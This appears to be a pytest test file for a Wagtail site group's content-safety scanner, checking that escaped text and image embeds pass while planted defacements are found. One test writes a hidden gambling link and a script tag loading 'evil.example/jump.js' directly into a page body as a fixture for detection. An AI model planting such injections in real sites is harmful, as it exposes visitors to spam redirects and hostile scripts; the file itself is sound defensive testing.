"""The scanner reads the page a visitor gets, not the stored rich-text source (issue 10, item 12).

Stored rich text holds Wagtail's own <embed embedtype="image"> tags and plain-text fields hold
text such as "<script>" that the theme escapes: neither is unsafe code. A hidden link and an
injected script are still found.
"""
import io

import pytest
from django.core.files.images import ImageFile
from django_tenants.utils import tenant_context
from PIL import Image as PILImage
from wagtail.images.models import Image
from wagtail.models import Page

from sitegroup.safety.models import ContentFinding
from themes.models import ArticlePage

pytestmark = pytest.mark.django_db


def _image():
    buffer = io.BytesIO()
    PILImage.new("RGB", (60, 40), "green").save(buffer, "PNG")
    return Image.objects.create(title="春耕", file=ImageFile(buffer, name="spring.png"))


def _publish_article(site, title, body, summary=""):
    with tenant_context(site):
        news = Page.objects.get(depth=3, slug="news").specific
        page = news.add_child(instance=ArticlePage(title=title, slug=f"a{abs(hash(title)) % 10**8}",
                                                   summary=summary, body=body))
        page.save_revision().publish()
        return page


def test_inline_images_and_escaped_text_are_not_unsafe_markup(cluster):
    with tenant_context(cluster.peach):
        image = _image()
    body = (f'<p>春耕备耕有序推进。</p><embed embedtype="image" id="{image.pk}" format="fullwidth" alt="田间地头"/>'
            '<p>网络安全宣传：&lt;script&gt;alert(1)&lt;/script&gt; 这样的代码不能出现在网页里。</p>')
    page = _publish_article(cluster.peach, "春耕备耕工作有序推进", body,
                            summary="如何识别网页里被植入的 <script> 代码和 <iframe> 暗链")
    assert list(ContentFinding.open().filter(site=cluster.peach, page_id=page.pk)
                .values_list("kind", "detail")) == []


def test_a_hidden_link_and_an_injected_script_in_the_rendered_page_are_still_found(cluster):
    page = _publish_article(cluster.willow, "街道召开消防安全会议", "<p>街道召开消防安全会议。</p>")
    with tenant_context(cluster.willow):
        # Defaced in the database directly, past the editor's sanitiser.
        ArticlePage.objects.filter(pk=page.pk).update(body=(
            '<p>街道召开消防安全会议。</p><div style="display:none"><a href="http://hy88.example/">鸿运娱乐城</a></div>'
            '<script src="http://evil.example/jump.js"></script>'))
        from sitegroup.safety.pages import scan_page

        scan_page(ArticlePage.objects.get(pk=page.pk), cluster.willow)
    kinds = set(ContentFinding.open().filter(site=cluster.willow, page_id=page.pk).values_list("kind", flat=True))
    assert {"hidden_link", "unsafe_markup"} <= kinds
    assert not ContentFinding.objects.filter(site=cluster.peach, page_id=page.pk, kind="hidden_link").exists()


def test_a_suspended_site_is_checked_on_its_content_not_its_maintenance_page(cluster):
    from tenants.provisioning import change_status

    change_status(cluster.willow, "suspended")
    page = _publish_article(cluster.willow, "街道新闻", "<p>街道新闻。鸿运88娱乐城注册送彩金。</p>")
    assert ContentFinding.open().filter(site=cluster.willow, page_id=page.pk, kind="spam_text",
                                        severity="high").exists()
